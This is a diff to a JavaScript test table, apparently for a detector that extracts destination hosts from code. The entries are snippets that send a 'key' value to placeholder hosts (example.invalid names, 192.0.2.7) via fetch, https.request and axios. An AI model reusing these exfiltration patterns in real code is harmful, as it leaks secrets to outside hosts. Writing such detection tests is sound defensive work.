@@ -88,6 +88,11 @@ it.each([
   [`fetch('//cdn.example.invalid', { body: key })`, ['cdn.example.invalid']],
   [`require('https').request({ host: 'a.example.invalid', headers: { 'x-id': key } })`, ['a.example.invalid']],
   [`fetch('https://192.0.2.7/' + key)`, ['192.0.2.7']],
+  [
+    `const out = require('https').request({ hostname: 'c.example.invalid', method: 'a.b' }); out.end(key)`,
+    ['c.example.invalid'],
+  ],
+  [`require('axios').create({ baseURL: 'https://d.example.invalid' }).post('/x', key)`, ['d.example.invalid']],
   [`const base = 'https://b.example.invalid/' + message; fetch(base + '/send', { body: key })`, ['b.example.invalid']],
   [`fetch('https://192.0.2.7/', { body: key })`, ['192.0.2.7']],
   [`fetch('https://a.invalid/' + message, { body: key, b: '//b.invalid', c: '//c.invalid', d: '//d.invalid' })`, ['*']],
